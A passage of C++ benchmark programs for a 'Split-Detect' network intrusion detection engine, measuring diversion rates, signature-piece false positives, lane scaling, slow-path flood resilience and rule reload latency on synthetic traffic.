                             Profile{"chatty", 0.10, 0.002},
                             Profile{"lossy", 0.02, 0.02}}) {
    evasion::TrafficConfig tc;
    tc.flows = opt.sized(400, 80);
    tc.seed = 7;
    tc.interactive_fraction = prof.interactive;
    tc.reorder_rate = prof.reorder;
    const auto trace = evasion::generate_benign(tc);

    for (const std::size_t p : {4u, 8u, 16u}) {
      const Census c = take_census(trace, 2 * p - 1);
      const double dp = static_cast<double>(c.data_packets);
      const double nf = static_cast<double>(c.flows.size());
      std::printf("%10s %7.1f%% %6zu | %9.2f%% %9.2f%% %9.2f%% | %9.2f%% %9.2f%%\n",
                  prof.name, 100.0 * prof.reorder, 2 * p - 1,
                  100.0 * static_cast<double>(c.below_threshold) / dp,
                  100.0 * static_cast<double>(c.final_small) / dp,
                  100.0 * static_cast<double>(c.ooo_packets) / dp,
                  100.0 * static_cast<double>(c.small_flows.size()) / nf,
                  100.0 * static_cast<double>(c.ooo_flows.size()) / nf);
      char key[48];
      std::snprintf(key, sizeof key, "%s.p%zu", prof.name, p);
      rep.metric(std::string(key) + ".small_pkt_pct",
                 100.0 * static_cast<double>(c.below_threshold) / dp, "%");
      rep.metric(std::string(key) + ".ooo_pkt_pct",
                 100.0 * static_cast<double>(c.ooo_packets) / dp, "%");
    }
  }

  // Encapsulation dimension: the census counts the engines' anomaly inputs
  // (inner TCP segment sizes and ordering), which a byte-preserving
  // re-frame cannot move. Same trace content under every framing, counts
  // compared cell for cell against plain v4.
  {
    evasion::TrafficConfig tc;
    tc.flows = opt.sized(200, 40);
    tc.seed = 7;
    tc.interactive_fraction = 0.02;
    tc.reorder_rate = 0.002;
    const Census base = take_census(evasion::generate_benign(tc), 15);
    int mismatches = 0;
    for (const net::Framing f :
         {net::Framing::v6, net::Framing::vlan, net::Framing::qinq,
          net::Framing::vxlan, net::Framing::gre}) {
      tc.encap.framing = f;
      const Census c =
          take_census(evasion::generate_benign(tc), 15, tc.encap.link());
      const bool same = c.data_packets == base.data_packets &&
                        c.below_threshold == base.below_threshold &&
                        c.final_small == base.final_small &&
                        c.ooo_packets == base.ooo_packets &&
                        c.flows.size() == base.flows.size();
      if (!same) ++mismatches;
      std::printf("encap %-6s: %s (pkts %llu small %llu ooo %llu)\n",
                  net::to_string(f), same ? "census identical" : "MISMATCH",
                  static_cast<unsigned long long>(c.data_packets),
                  static_cast<unsigned long long>(c.below_threshold),
                  static_cast<unsigned long long>(c.ooo_packets));
    }
    rep.metric("encap.census_mismatches", mismatches, "framings");
  }

  std::printf(
      "\nexpected shape: 'finsml' (small final segment with FIN) is common\n"
      "and exempt; non-final small segments concentrate in interactive\n"
      "flows; reordering scales the ooo row — together these are the benign\n"
      "diversion floor E4 observes end-to-end.\n");
  return rep.write() ? 0 : 1;
}
