// E5 — Piece false-positive match rate in benign payload vs. piece length.
//
// Paper dependency: pieces must be long enough that benign bytes rarely
// contain one (each chance hit costs a slow-path diversion), yet short
// enough that signatures can be split at all (L >= 2p). This measures the
// raw per-byte piece hit rate on the two content classes the traffic
// generator produces. Hit counts are deterministic for the seeded
// payloads, so no repeat-timing applies here.
#include "bench_util.hpp"
#include "core/splitter.hpp"
#include "util/rng.hpp"

using namespace sdt;

namespace {

double hits_per_mb(const core::PieceSet& ps, ByteView payload) {
  std::size_t hits = 0;
  ps.matcher().scan(payload, match::AhoCorasick::kRoot,
                    [&](match::AhoCorasick::Match) { ++hits; });
  return static_cast<double>(hits) * 1e6 / static_cast<double>(payload.size());
}

}  // namespace

int main(int argc, char** argv) {
  const bench::Options opt = bench::Options::parse(argc, argv);
  bench::JsonReport rep("E5_piece_fp",
                        "piece false-positive rate vs piece length", opt);
  bench::banner("E5: piece false-positive rate vs piece length",
                "piece hits in benign traffic divert flows; the rate must "
                "fall fast with p for the scheme to be deployable");

  const std::size_t mb = opt.sized(4, 1);
  Rng rng(5);
  const Bytes binary = evasion::generate_payload(rng, mb << 20, 0.0);
  Bytes text;
  while (text.size() < (mb << 20)) {
    const Bytes chunk = evasion::generate_payload(rng, 64 << 10, 1.0);
    text.insert(text.end(), chunk.begin(), chunk.end());
  }

  std::printf("%4s %8s | %18s %18s\n", "p", "#pieces", "hits/MB (binary)",
              "hits/MB (text)");
  std::printf("--------------+---------------------------------------\n");

  for (const std::size_t p : {2u, 3u, 4u, 6u, 8u, 12u, 16u}) {
    const core::SignatureSet sigs = evasion::default_corpus(2 * p);
    const core::PieceSet ps(sigs, p);
    const double hb = hits_per_mb(ps, binary);
    const double ht = hits_per_mb(ps, text);
    std::printf("%4zu %8zu | %18.2f %18.2f\n", p, ps.piece_count(), hb, ht);
    char key[48];
    std::snprintf(key, sizeof key, "p%zu", p);
    rep.metric(std::string(key) + ".hits_per_mb_binary", hb, "hits/MB");
    rep.metric(std::string(key) + ".hits_per_mb_text", ht, "hits/MB");
  }

  std::printf(
      "\nexpected shape: binary hit rate collapses roughly 256x per extra\n"
      "byte of p; text payload keeps a residual rate where pieces contain\n"
      "common protocol substrings (e.g. ' HTTP/1.'), which is the paper's\n"
      "argument for choosing rare pieces when splitting.\n");
  return rep.write() ? 0 : 1;
}
