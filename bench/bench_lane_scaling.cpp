// A3 — Lane scaling: the parallel deployment behind the 20 Gbps claim.
//
// A line-card implementation reaches 20 Gbps by running several independent
// detector lanes behind a flow-hash load balancer. Because lanes share no
// state, scaling is bounded only by load balance: the busiest lane is the
// critical path. This bench shards one trace across 1..16 lanes for both
// engines and reports aggregate rate, speedup and hash imbalance — plus the
// invariant that sharding changes no verdict (same alerts at every width).
#include <memory>

#include "bench_util.hpp"
#include "sim/sharding.hpp"

using namespace sdt;

int main() {
  bench::banner("A3: lane scaling (flow-hash parallel deployment)",
                "per-flow independence means Split-Detect parallelizes by "
                "flow hashing; the busiest lane bounds the line rate");

  const core::SignatureSet sigs = evasion::default_corpus(16);
  evasion::TrafficConfig tc;
  tc.flows = 800;
  tc.seed = 4;
  evasion::AttackMix mix;
  mix.attack_fraction = 0.02;
  mix.kind = evasion::EvasionKind::tiny_segments;
  const auto trace = evasion::generate_mixed(tc, sigs, mix);
  std::printf("workload: %zu packets, %s, %zu flows (%zu attacks)\n\n",
              trace.packets.size(),
              human_bytes(static_cast<double>(trace.total_bytes)).c_str(),
              trace.flows, trace.attack_flows);

  for (const char* which : {"split-detect", "conventional"}) {
    std::printf("%s:\n", which);
    std::printf("%6s %14s %10s %11s %10s %8s\n", "lanes", "aggregate",
                "speedup", "bottleneck", "imbalance", "alerts");
    double base_gbps = 0.0;
    for (const std::size_t lanes : {1u, 2u, 4u, 8u, 16u}) {
      auto make = [&]() -> std::unique_ptr<sim::Detector> {
        if (std::string(which) == "split-detect") {
          core::SplitDetectConfig cfg;
          cfg.fast.piece_len = 8;
          return std::make_unique<sim::SplitDetectDetector>(sigs, cfg);
        }
        return std::make_unique<sim::ConventionalDetector>(sigs);
      };
      const sim::LaneScalingReport rep =
          sim::lane_scaling(make, trace.packets, lanes);
      const double gbps = rep.aggregate_gbps();
      if (lanes == 1) base_gbps = gbps;
      std::printf("%6zu %11.2f Gb %9.2fx %8.2f ms %9.2fx %8llu\n", lanes,
                  gbps, base_gbps > 0 ? gbps / base_gbps : 0.0,
                  static_cast<double>(rep.bottleneck_ns()) / 1e6,
                  rep.imbalance(),
                  static_cast<unsigned long long>(rep.total_alerts));
    }
    std::printf("\n");
  }

  std::printf(
      "expected shape: near-linear speedup limited by hash imbalance (the\n"
      "heavy-tailed flow-size distribution makes perfect balance\n"
      "impossible); the alert count is identical at every lane width —\n"
      "flow-hash sharding is verdict-preserving because all engine state\n"
      "is per-flow. Wall-clock Gbps are host-relative (see E3).\n");
  return 0;
}
