// A3 — Lane scaling: the parallel deployment behind the 20 Gbps claim.
//
// A line-card implementation reaches 20 Gbps by running several independent
// detector lanes behind a flow-hash load balancer. Because lanes share no
// state, scaling is bounded only by load balance: the busiest lane is the
// critical path. This bench shards one trace across 1..16 lanes for both
// engines and reports aggregate rate (median ± MAD over repeated shardings),
// speedup and hash imbalance — plus the invariant that sharding changes no
// verdict (same alerts at every width).
#include <memory>

#include "bench_util.hpp"
#include "sim/sharding.hpp"

using namespace sdt;

int main(int argc, char** argv) {
  const bench::Options opt = bench::Options::parse(argc, argv);
  bench::JsonReport rep("A3_lane_scaling",
                        "lane scaling (flow-hash parallel deployment)", opt);
  bench::banner("A3: lane scaling (flow-hash parallel deployment)",
                "per-flow independence means Split-Detect parallelizes by "
                "flow hashing; the busiest lane bounds the line rate");

  const core::SignatureSet sigs = evasion::default_corpus(16);
  evasion::TrafficConfig tc;
  tc.flows = opt.sized(800, 150);
  tc.seed = 4;
  evasion::AttackMix mix;
  mix.attack_fraction = 0.02;
  mix.kind = evasion::EvasionKind::tiny_segments;
  const auto trace = evasion::generate_mixed(tc, sigs, mix);
  const std::size_t runs = opt.runs(5, 2);
  std::printf("workload: %zu packets, %s, %zu flows (%zu attacks); "
              "%zu timed runs per width (median ± MAD)\n\n",
              trace.packets.size(),
              human_bytes(static_cast<double>(trace.total_bytes)).c_str(),
              trace.flows, trace.attack_flows, runs);

  for (const char* which : {"split-detect", "conventional"}) {
    std::printf("%s:\n", which);
    std::printf("%6s %18s %10s %11s %10s %8s\n", "lanes", "aggregate",
                "speedup", "bottleneck", "imbalance", "alerts");
    double base_gbps = 0.0;
    for (const std::size_t lanes : {1u, 2u, 4u, 8u, 16u}) {
      auto make = [&]() -> std::unique_ptr<sim::Detector> {
        if (std::string(which) == "split-detect") {
          core::SplitDetectConfig cfg;
          cfg.fast.piece_len = 8;
          return std::make_unique<sim::SplitDetectDetector>(sigs, cfg);
        }
        return std::make_unique<sim::ConventionalDetector>(sigs);
      };
      // Repeat the whole sharded replay: fresh detectors every pass, so
      // the alert invariant is re-checked and the timing gets a median.
      std::uint64_t alerts = 0, bottleneck_ns = 0;
      double imbalance = 0.0;
      const bench::Repeated gbps = bench::repeat(runs, [&] {
        const sim::LaneScalingReport lr =
            sim::lane_scaling(make, trace.packets, lanes);
        alerts = lr.total_alerts;
        bottleneck_ns = lr.bottleneck_ns();
        imbalance = lr.imbalance();
        return lr.aggregate_gbps();
      });
      if (lanes == 1) base_gbps = gbps.median;
      std::printf("%6zu %15s Gb %9.2fx %8.2f ms %9.2fx %8llu\n", lanes,
                  bench::pm(gbps, "%.2f").c_str(),
                  base_gbps > 0 ? gbps.median / base_gbps : 0.0,
                  static_cast<double>(bottleneck_ns) / 1e6, imbalance,
                  static_cast<unsigned long long>(alerts));
      char key[48];
      std::snprintf(key, sizeof key, "%s.lanes%zu",
                    std::string(which) == "split-detect" ? "split_detect"
                                                         : "conventional",
                    lanes);
      rep.metric(std::string(key) + ".aggregate_gbps", gbps, "Gbps");
      rep.metric(std::string(key) + ".speedup",
                 base_gbps > 0 ? gbps.median / base_gbps : 0.0, "x");
      rep.metric(std::string(key) + ".alerts", static_cast<double>(alerts),
                 "alerts");
    }
    std::printf("\n");
  }

  std::printf(
      "expected shape: near-linear speedup limited by hash imbalance (the\n"
      "heavy-tailed flow-size distribution makes perfect balance\n"
      "impossible); the alert count is identical at every lane width —\n"
      "flow-hash sharding is verdict-preserving because all engine state\n"
      "is per-flow. Wall-clock Gbps are host-relative (see E3).\n");
  return rep.write() ? 0 : 1;
}
