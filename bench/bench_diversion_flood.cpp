// E10 — Diversion flood: benign goodput and admitted-flow recall when an
// adversary deliberately saturates the slow path.
//
// Paper dependency: the split architecture's weak point is that diversion
// is attacker-controllable — spraying tiny/OOO segments melts a
// synchronous slow path and takes detection down with it. With the
// bounded slow-path subsystem the failure must become explicit and
// contained: the lane hot loop keeps its throughput (diversion is an
// enqueue, not a reassembly call), excess flows are shed WITH an alert
// and counted (conservation law), and flows that stay admitted keep
// full-fidelity detection — recall on admitted attack flows stays at
// 100% at every attack fraction.
#include <ctime>
#include <set>
#include <string>

#include "bench_util.hpp"
#include "core/engine.hpp"
#include "slowpath/service.hpp"

using namespace sdt;

namespace {

// Attack clients live in 172.16/16 so alerts attribute unambiguously:
// benign traffic uses 10/8 clients and 192.168/16 servers.
evasion::Endpoints attack_endpoints(std::size_t i, Rng& rng) {
  evasion::Endpoints ep;
  ep.client = net::Ipv4Addr(172, 16, static_cast<std::uint8_t>(i / 256 % 256),
                            static_cast<std::uint8_t>(i % 256));
  ep.server = net::Ipv4Addr(192, 168, static_cast<std::uint8_t>(i * 7 % 256),
                            static_cast<std::uint8_t>(i * 13 % 256));
  ep.client_port = static_cast<std::uint16_t>(1024 + rng.below(60000));
  ep.server_port = 80;
  ep.client_isn = static_cast<std::uint32_t>(rng.next());
  ep.server_isn = static_cast<std::uint32_t>(rng.next());
  return ep;
}

bool is_attack_flow(const flow::FlowKey& k) {
  return (k.a_ip.to_v4().value() >> 24) == 172 ||
         (k.b_ip.to_v4().value() >> 24) == 172;
}

// Constrained slow path: per-flow budgets always active, no refill inside
// the trace's quarter-second — sized so a tiny-segment flood splits into
// an admitted slice (small flows, within budget) and a shed slice, instead
// of hiding behind generous defaults or shedding everything.
slowpath::SlowPathConfig slowpath_config(const core::SplitDetectConfig& ec) {
  slowpath::SlowPathConfig sp;
  sp.workers = 2;
  sp.ips = core::derive_slow_config(ec);
  sp.admission.quantum_bytes = 8 * 1024;
  sp.admission.max_deficit_bytes = 16 * 1024;
  sp.admission.refill_interval_usec = 10ull * 1000 * 1000;
  sp.admission.pressure_threshold = 0.0;
  // Deep queue: admission policy, not backpressure, decides who sheds.
  sp.queue.max_packets = 1 << 17;
  return sp;
}

/// Source or destination in 172.16/16 ⇒ attack packet (benign clients are
/// 10/8 talking to 192.168/16 servers). Raw-IPv4 frames: src at offset 12.
bool attack_frame(const Bytes& frame) {
  return frame.size() >= 20 && (frame[12] == 172 || frame[16] == 172);
}

/// CPU time of the calling thread. The hot-loop claim is about CPU cost,
/// and this stays honest on a loaded (or single-core) host: time the slow
/// path's workers burn on their own threads — or scheduler preemption —
/// never pollutes the feed thread's per-packet figures.
std::uint64_t thread_cpu_ns() {
  timespec ts{};
  clock_gettime(CLOCK_THREAD_CPUTIME_ID, &ts);
  return static_cast<std::uint64_t>(ts.tv_sec) * 1000000000ull +
         static_cast<std::uint64_t>(ts.tv_nsec);
}

}  // namespace

int main(int argc, char** argv) {
  const bench::Options opt = bench::Options::parse(argc, argv);
  bench::JsonReport rep("E10_diversion_flood",
                        "goodput + admitted-flow recall under slow-path "
                        "saturation",
                        opt);
  bench::banner("E10: diversion flood vs bounded slow path",
                "shedding is explicit and counted; admitted flows keep "
                "full recall; benign goodput holds within 10% of the "
                "no-attack baseline");

  const core::SignatureSet sigs = evasion::default_corpus(32);
  const std::size_t benign_flows = opt.sized(1200, 300);

  core::SplitDetectConfig ecfg;
  ecfg.fast.piece_len = 8;

  std::printf("%9s | %12s %9s %8s | %7s %7s %7s | %9s %6s\n", "attack%",
              "goodput MB/s", "vs base", "vs sync", "atk", "shed", "caught",
              "recall@adm", "consrv");
  std::printf("----------+---------------------------------+----------------"
              "---------+------------------\n");

  const std::vector<double> fracs =
      opt.quick ? std::vector<double>{0.0, 0.30}
                : std::vector<double>{0.0, 0.05, 0.10, 0.20, 0.30};
  double base_goodput = 0.0;
  for (const double frac : fracs) {
    // One trace per fraction: benign population + attack flows spraying
    // tiny shuffled segments (every packet slow-path bait). `frac` is the
    // attack share of LINE PACKETS — the deployment-meaningful measure of
    // a flood — so a 30% flood means 3 of every 10 packets the lane sees
    // are bait, not 30% of flows each amplified 1000x in packet count.
    Rng rng(20260809);
    evasion::TrafficConfig tc;
    tc.flows = benign_flows;
    evasion::GeneratedTrace trace = evasion::generate_benign(tc, rng);
    const std::uint64_t benign_bytes = trace.total_bytes;
    const double benign_pkts = static_cast<double>(trace.packets.size());

    const auto attack_pkt_budget = static_cast<std::size_t>(
        frac >= 1.0 ? 0 : benign_pkts * frac / (1.0 - frac));
    std::size_t attacks = 0, attack_pkts = 0;
    for (std::size_t i = 0; attack_pkts < attack_pkt_budget; ++i, ++attacks) {
      Bytes stream = evasion::generate_payload(
          rng, static_cast<std::size_t>(rng.range(600, 4000)), 0.5);
      const core::Signature& sig =
          sigs[static_cast<std::uint32_t>(rng.below(sigs.size()))];
      const std::size_t pos = static_cast<std::size_t>(
          rng.below(stream.size() - sig.bytes.size()));
      std::copy(sig.bytes.begin(), sig.bytes.end(),
                stream.begin() + static_cast<std::ptrdiff_t>(pos));
      evasion::EvasionParams params;
      params.tiny_seg_size = 16;
      params.sig_lo = pos;
      params.sig_hi = pos + sig.bytes.size();
      std::vector<net::Packet> pkts = evasion::forge_evasion(
          evasion::EvasionKind::combo_tiny_ooo, attack_endpoints(i, rng),
          stream, params, rng,
          tc.start_ts_usec + i * tc.flow_spacing_usec);
      attack_pkts += pkts.size();
      trace.packets.insert(trace.packets.end(),
                           std::make_move_iterator(pkts.begin()),
                           std::make_move_iterator(pkts.end()));
    }
    std::stable_sort(trace.packets.begin(), trace.packets.end(),
                     [](const net::Packet& a, const net::Packet& b) {
                       return a.ts_usec < b.ts_usec;
                     });

    // Timed replay: the lane hot loop feeding a running slow path. The
    // goodput figure charges each packet's hot-loop time to its class and
    // reports benign bytes over benign hot-loop time — a shared serial
    // loop obviously spends wall time on flood packets too, but the claim
    // under test is that processing a BENIGN packet costs the same whether
    // or not a flood rages around it (diversion is an enqueue, no
    // contention leaks back into the loop).
    std::vector<core::Alert> alerts;
    slowpath::SlowPathStats sstats;
    bool conserved = true;
    std::vector<double> loop_mbps_samples;
    const bench::Repeated goodput = bench::repeat(opt.runs(5), [&] {
      alerts.clear();
      core::SplitDetectEngine engine(sigs, ecfg);
      core::CompileOptions copts;
      copts.piece_len = ecfg.fast.piece_len;
      slowpath::SlowPathService svc(
          core::compile_ruleset(sigs, copts, 1, "e10"), slowpath_config(ecfg));
      engine.set_divert_sink(&svc);
      // Workers start after the feed loop: in deployment, lanes and
      // slow-path workers own separate cores; on this bench host they
      // would share one, and worker cache/cycle pollution would be
      // misread as hot-loop cost. Admission (and thus shedding) happens
      // at divert() time either way.
      std::uint64_t benign_ns = 0;
      const std::uint64_t loop0 = thread_cpu_ns();
      for (const auto& p : trace.packets) {
        const bool atk = attack_frame(p.frame);
        const std::uint64_t t0 = thread_cpu_ns();
        engine.process(p, net::LinkType::raw_ipv4, alerts);
        const std::uint64_t t1 = thread_cpu_ns();
        if (!atk) benign_ns += t1 - t0;
      }
      const std::uint64_t loop1 = thread_cpu_ns();
      svc.start();
      svc.stop();
      sstats = svc.stats_snapshot();
      conserved = conserved && sstats.conserved();
      const std::vector<core::Alert> slow = svc.alerts_snapshot();
      alerts.insert(alerts.end(), slow.begin(), slow.end());
      loop_mbps_samples.push_back(static_cast<double>(trace.total_bytes) /
                                  (static_cast<double>(loop1 - loop0) / 1e9) /
                                  1e6);
      return static_cast<double>(benign_bytes) /
             (static_cast<double>(benign_ns) / 1e9) / 1e6;
    });
    const bench::Repeated loop_mbps =
        bench::summarize(std::move(loop_mbps_samples));

    // The architecture foil: the same flooded trace against a synchronous
    // slow path (no sink — every diverted packet is an inline reassembly
    // call in the hot loop). Total loop throughput is what melts.
    const bench::Repeated sync_loop_mbps = bench::repeat(opt.runs(3, 1), [&] {
      std::vector<core::Alert> sink_hole;
      core::SplitDetectEngine engine(sigs, ecfg);
      const std::uint64_t loop0 = thread_cpu_ns();
      for (const auto& p : trace.packets) {
        // Same per-packet clock reads as the sink-mode loop, so the two
        // loop figures differ only in what the engine does.
        const std::uint64_t t0 = thread_cpu_ns();
        engine.process(p, net::LinkType::raw_ipv4, sink_hole);
        const std::uint64_t t1 = thread_cpu_ns();
        (void)t0;
        (void)t1;
      }
      const std::uint64_t loop1 = thread_cpu_ns();
      return static_cast<double>(trace.total_bytes) /
             (static_cast<double>(loop1 - loop0) / 1e9) / 1e6;
    });

    // Attribute verdicts (last repeat): shed vs caught, attack flows only.
    std::set<std::string> shed_attack, caught_attack, shed_all;
    for (const core::Alert& a : alerts) {
      if (a.signature_id == core::kSlowPathShedAlertId) {
        shed_all.insert(a.flow.str());
        if (is_attack_flow(a.flow)) shed_attack.insert(a.flow.str());
      } else if (a.signature_id < sigs.size() && is_attack_flow(a.flow)) {
        caught_attack.insert(a.flow.str());
      }
    }
    // Recall restricted to admitted (never-shed) attack flows — the
    // crosscheck invariant: shedding costs coverage, not correctness.
    std::size_t caught_admitted = 0;
    for (const std::string& f : caught_attack) {
      if (shed_attack.find(f) == shed_attack.end()) ++caught_admitted;
    }
    const std::size_t admitted = attacks - shed_attack.size();
    const double recall =
        admitted == 0 ? 1.0
                      : static_cast<double>(caught_admitted) /
                            static_cast<double>(admitted);
    if (frac == 0.0) base_goodput = goodput.median;
    const double vs_base =
        base_goodput > 0.0 ? goodput.median / base_goodput : 1.0;
    const double sync_ratio = sync_loop_mbps.median > 0.0
                                  ? loop_mbps.median / sync_loop_mbps.median
                                  : 1.0;

    std::printf(
        "%8.1f%% | %12s %8.1f%% %7.2fx | %7zu %7zu %7zu | %9.1f%% %6s\n",
        100.0 * frac, bench::pm(goodput, "%.0f").c_str(), 100.0 * vs_base,
        sync_ratio, attacks, shed_attack.size(), caught_admitted,
        100.0 * recall, conserved ? "ok" : "VIOLATED");

    char key[48];
    std::snprintf(key, sizeof key, "attack%.0f", 100.0 * frac);
    rep.metric(std::string(key) + ".benign_goodput_mbps", goodput, "MB/s");
    rep.metric(std::string(key) + ".goodput_vs_baseline", vs_base, "ratio");
    rep.metric(std::string(key) + ".loop_mbps", loop_mbps, "MB/s");
    rep.metric(std::string(key) + ".sync_loop_mbps", sync_loop_mbps, "MB/s");
    rep.metric(std::string(key) + ".loop_vs_sync", sync_ratio, "ratio");
    rep.metric(std::string(key) + ".attack_flows",
               static_cast<double>(attacks), "flows");
    rep.metric(std::string(key) + ".shed_flows",
               static_cast<double>(sstats.shed_flows), "flows");
    rep.metric(std::string(key) + ".recall_admitted", recall, "fraction");
    rep.metric(std::string(key) + ".conserved", conserved ? 1.0 : 0.0,
               "bool");
  }

  std::printf(
      "\nexpected shape: per-benign-packet goodput stays within ~10%% of the\n"
      "0%% row at every attack fraction (diversion is an enqueue; nothing\n"
      "leaks back into the hot loop), while the sync foil's loop throughput\n"
      "collapses as the flood grows (vs-sync ratio rises). Shed flows appear\n"
      "once the flood exceeds per-flow budgets, every one alerted and\n"
      "counted; recall on still-admitted attack flows stays 100%%.\n");
  return rep.write() ? 0 : 1;
}
