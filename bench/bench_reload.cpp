// A5 — Rule-set reload: compile cost off the packet path, and the
// publish -> all-lanes-adopted latency while those lanes are busy.
//
// The control plane's two timed promises:
//
//   1. Compiling a rule set (parse -> split -> two Aho-Corasick builds ->
//      validation) happens on the control thread; the packet path never
//      pays for it. We time core::compile_ruleset on the standard corpus.
//
//   2. After RuleSetRegistry::publish, every lane adopts the new version
//      at a packet boundary — one acquire load per packet is the only
//      fast-path cost. We time publish -> grace_complete with 4 lanes
//      under continuous traffic (a feeder thread refills the rings the
//      whole time), and again with idle lanes as the floor.
//
// Both medians land in BENCH_<date>.json via scripts/bench_snapshot.sh, so
// reload-latency regressions show up in the snapshot diff like any other
// perf regression.
#include <atomic>
#include <chrono>
#include <thread>

#include "bench_util.hpp"
#include "control/registry.hpp"
#include "core/compiled_ruleset.hpp"
#include "runtime/runtime.hpp"

using namespace sdt;

namespace {

double time_grace(control::RuleSetRegistry& registry,
                  const core::SignatureSet& sigs,
                  const core::CompileOptions& opts, const char* tag) {
  const core::RuleSetHandle rs =
      core::compile_ruleset(sigs, opts, registry.allocate_version(), tag);
  const auto t0 = std::chrono::steady_clock::now();
  registry.publish(rs);
  while (!registry.grace_complete(rs->version())) {
    std::this_thread::yield();
  }
  const auto t1 = std::chrono::steady_clock::now();
  return static_cast<double>(
      std::chrono::duration_cast<std::chrono::nanoseconds>(t1 - t0).count());
}

}  // namespace

int main(int argc, char** argv) {
  const bench::Options opt = bench::Options::parse(argc, argv);
  bench::JsonReport rep("A5_reload",
                        "rule compile cost and publish->adopted latency", opt);
  bench::banner("A5: rule-set reload",
                "compiles stay off the packet path; a published version is "
                "adopted by every busy lane within microseconds (one acquire "
                "load per packet)");

  const core::SignatureSet sigs = evasion::default_corpus(16);
  core::CompileOptions copts;
  copts.piece_len = 8;

  // 1. Compile cost (control-thread work, never on the packet path). The
  // handle is kept so the build cannot be elided.
  const std::size_t compile_runs = opt.runs(9, 3);
  core::RuleSetHandle last_compiled;
  const bench::Repeated compile_ns = bench::repeat(compile_runs, [&] {
    const auto t0 = std::chrono::steady_clock::now();
    last_compiled = core::compile_ruleset(sigs, copts, 1);
    const auto t1 = std::chrono::steady_clock::now();
    return static_cast<double>(
        std::chrono::duration_cast<std::chrono::nanoseconds>(t1 - t0).count());
  });
  std::printf("compile (%zu sigs, piece_len %zu): %s us  (%zu runs)\n",
              sigs.size(), copts.piece_len,
              bench::pm(bench::summarize([&] {
                          std::vector<double> us;
                          for (double s : compile_ns.samples)
                            us.push_back(s / 1e3);
                          return us;
                        }()),
                        "%.0f")
                  .c_str(),
              compile_runs);
  rep.metric("reload.compile_ns", compile_ns, "ns");

  // 2. Publish -> all-lanes-adopted, lanes busy. A feeder thread keeps the
  // rings full so every adoption happens between real packets.
  evasion::TrafficConfig tc;
  tc.flows = opt.sized(400, 80);
  tc.seed = 6;
  evasion::AttackMix mix;
  mix.attack_fraction = 0.02;
  mix.kind = evasion::EvasionKind::tiny_segments;
  const auto trace = evasion::generate_mixed(tc, sigs, mix);

  runtime::RuntimeConfig rc;
  rc.lanes = 4;
  rc.engine.fast.piece_len = copts.piece_len;

  control::RuleSetRegistry registry;
  registry.publish(
      core::compile_ruleset(sigs, copts, registry.allocate_version(), "v1"));
  runtime::Runtime rt(registry.current(), rc);
  rt.attach_registry(registry);
  rt.start();

  std::atomic<bool> stop_feeding{false};
  std::thread feeder([&] {
    while (!stop_feeding.load(std::memory_order_relaxed)) {
      rt.feed(std::span<const net::Packet>(trace.packets));
    }
  });

  const std::size_t reload_runs = opt.runs(15, 4);
  const bench::Repeated busy_ns = bench::repeat(reload_runs, [&] {
    return time_grace(registry, sigs, copts, "busy");
  });
  stop_feeding.store(true);
  feeder.join();
  rt.drain();

  // Floor: idle lanes adopt on their next registry probe.
  const bench::Repeated idle_ns = bench::repeat(reload_runs, [&] {
    return time_grace(registry, sigs, copts, "idle");
  });
  rt.stop();

  const runtime::StatsSnapshot st = rt.stats();
  std::printf("publish -> all 4 lanes adopted, lanes busy: %s us\n",
              bench::pm(bench::summarize([&] {
                          std::vector<double> us;
                          for (double s : busy_ns.samples)
                            us.push_back(s / 1e3);
                          return us;
                        }()),
                        "%.0f")
                  .c_str());
  std::printf("publish -> all 4 lanes adopted, lanes idle: %s us\n",
              bench::pm(bench::summarize([&] {
                          std::vector<double> us;
                          for (double s : idle_ns.samples)
                            us.push_back(s / 1e3);
                          return us;
                        }()),
                        "%.0f")
                  .c_str());
  std::printf("traffic while reloading: fed %llu = processed %llu + dropped "
              "%llu (conserved: %s)\n",
              static_cast<unsigned long long>(st.fed),
              static_cast<unsigned long long>(st.processed),
              static_cast<unsigned long long>(st.dropped),
              st.conserved() ? "yes" : "NO");
  if (!st.conserved() || st.dropped != 0) {
    std::printf("RELOAD LOST PACKETS\n");
    return 1;
  }
  // Every timed publish completed its grace, so the registry's histogram
  // saw all of them (v1 plus both timed batches).
  const std::uint64_t recorded = registry.reload_latency_ns().snapshot().count;
  if (recorded != 1 + 2 * reload_runs) {
    std::printf("LOST RELOAD: %llu recorded, expected %llu\n",
                static_cast<unsigned long long>(recorded),
                static_cast<unsigned long long>(1 + 2 * reload_runs));
    return 1;
  }

  rep.metric("reload.publish_to_adopted_ns", busy_ns, "ns");
  rep.metric("reload.publish_to_adopted_idle_ns", idle_ns, "ns");
  rep.metric("reload.lanes", static_cast<double>(rc.lanes), "count");
  rep.metric("reload.conserved", 1.0, "bool");

  std::printf(
      "\nexpected shape: compile is milliseconds-scale and entirely off the\n"
      "packet path; busy-lane adoption is bounded by one ring's worth of\n"
      "in-flight packets per lane (each lane probes the registry once per\n"
      "packet), so it sits within a small multiple of the idle floor, and\n"
      "no packet is dropped while versions swap.\n");
  return rep.write() ? 0 : 1;
}
