// E4 — Benign slow-path diversion rate vs. piece length p.
//
// Paper dependency: the fast path only wins if benign traffic rarely
// diverts. Diversion has two benign causes: (a) a signature piece occurring
// by chance in benign payload (worse for small p), (b) benign anomalies —
// genuinely small segments and network reordering (worse for large p, since
// the small-segment threshold is 2p-1).
//
// The sweep shows the U-shape that makes p a real engineering knob. Rates
// are deterministic for the seeded trace, so no repeat-timing applies; the
// JSON report carries the per-(p, reorder) diversion percentages.
#include "bench_util.hpp"
#include "core/engine.hpp"

using namespace sdt;

int main(int argc, char** argv) {
  const bench::Options opt = bench::Options::parse(argc, argv);
  bench::JsonReport rep("E4_diversion_rate",
                        "benign diversion rate vs piece length", opt);
  bench::banner("E4: benign diversion rate vs piece length",
                "the fraction of benign flows/packets diverted to the slow "
                "path must stay small for the 10% processing claim to hold");

  std::printf("%4s %8s | %12s %12s %14s | %s\n", "p", "reorder", "flows div.",
              "pkts div.", "piece-FP div.", "divert causes (flows)");
  std::printf("--------------+-----------------------------------------+-----"
              "---------------------\n");

  const std::size_t flows = opt.sized(400, 80);
  const std::vector<double> reorders =
      opt.quick ? std::vector<double>{0.0, 0.02}
                : std::vector<double>{0.0, 0.005, 0.02};
  for (const double reorder : reorders) {
    const auto trace = bench::standard_benign(flows, reorder);
    for (const std::size_t p : {4u, 6u, 8u, 12u, 16u}) {
      const core::SignatureSet sigs = evasion::default_corpus(2 * p);
      core::SplitDetectConfig cfg;
      cfg.fast.piece_len = p;
      core::SplitDetectEngine engine(sigs, cfg);
      std::vector<core::Alert> alerts;
      for (const auto& pkt : trace.packets) {
